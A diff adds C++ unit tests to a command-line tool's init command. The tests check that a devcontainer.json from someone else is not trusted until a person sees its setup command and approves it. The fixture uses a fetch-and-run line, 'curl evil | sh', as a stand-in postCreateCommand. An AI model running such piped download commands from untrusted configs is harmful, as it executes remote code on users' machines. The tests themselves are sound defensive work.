@@ -5,6 +5,8 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
+
 namespace helper::cli {
 namespace {
 
@@ -181,6 +183,54 @@ TEST(Init, TakesTheValuesOfADevcontainerOver) {
   const std::string text = desk.files.files().at(desk.config_file()).bytes;
   EXPECT_NE(text.find("// .devcontainer.json:4: features: helper installs none"), std::string::npos) << text;
   EXPECT_NE(text.find("\"context\": \".\""), std::string::npos) << text;
+}
+
+// The devcontainer.json of somebody else, and answers to all that init would ask.
+std::vector<std::string> from_a_stranger(Desk& desk, std::vector<std::string> more) {
+  EXPECT_TRUE(desk.files.write(desk.folder.path() / ".devcontainer.json",
+                               R"({"image": "i:1", "postCreateCommand": "curl evil | sh"})", 0644));
+  std::vector<std::string> words{"init",     "--server",   "gpu1",           "--from", ".devcontainer.json",
+                                 "--target", "t1",         "--remote",       "/w",     "--mount",
+                                 "/a:/w",    "--ssh-port", "2300",           "--name", "box",
+                                 "--image",  "i:1",        "--jupyter-port", "0"};
+  words.insert(words.end(), more.begin(), more.end());
+  return words;
+}
+bool is_approved(const Desk& desk) {
+  const auto all = desk.files.files();
+  const auto at = all.find(desk.folder.path() / "data" / "trust.json");
+  return at != all.end() && at->second.bytes.find("helper.json") != std::string::npos;
+}
+
+TEST(Init, WhatItTakesOverUnseenIsNotApproved) {
+  Desk desk;
+  ASSERT_EQ(desk.run(from_a_stranger(desk, {"--json"})).value_or(-1), 0);
+  EXPECT_FALSE(is_approved(desk));
+  EXPECT_FALSE(rpc::Json::parse(desk.out.str()).at("trusted").get<bool>());
+  Desk quiet;
+  ASSERT_EQ(quiet.run(from_a_stranger(quiet, {"--quiet"})).value_or(-1), 0);
+  EXPECT_FALSE(is_approved(quiet));
+  Desk script;
+  ASSERT_EQ(script.run(from_a_stranger(script, {})).value_or(-1), 0);
+  EXPECT_FALSE(is_approved(script));
+  EXPECT_NE(script.out.str().find("helper trust " + script.config_file().string()), std::string::npos);
+  Desk own;
+  ASSERT_EQ(own.run({"init", "--image", "i:1", "--json"}).value_or(-1), 0);
+  EXPECT_TRUE(rpc::Json::parse(own.out.str()).at("trusted").get<bool>()) << "these are the person's own answers";
+}
+
+TEST(Init, WhatItTakesOverIsApprovedByAYesToWhatIsShown) {
+  for (const std::string answer : {"yes", "no"}) {
+    Desk desk;
+    desk.can_ask = true;
+    desk.person.will_answer(answer);
+    const auto status = desk.run(from_a_stranger(desk, {}));
+    ASSERT_TRUE(status) << to_text(status.error());
+    ASSERT_EQ(desk.person.asked().size(), 1U);
+    const auto details = desk.person.asked().front().details;
+    EXPECT_NE(std::ranges::find(details, "  t1: runs once in the container: curl evil | sh"), details.end());
+    EXPECT_EQ(is_approved(desk), answer == "yes");
+  }
 }
 
 TEST(Init, FromAFileThatIsNotThereOrIsWrongWritesNothing) {
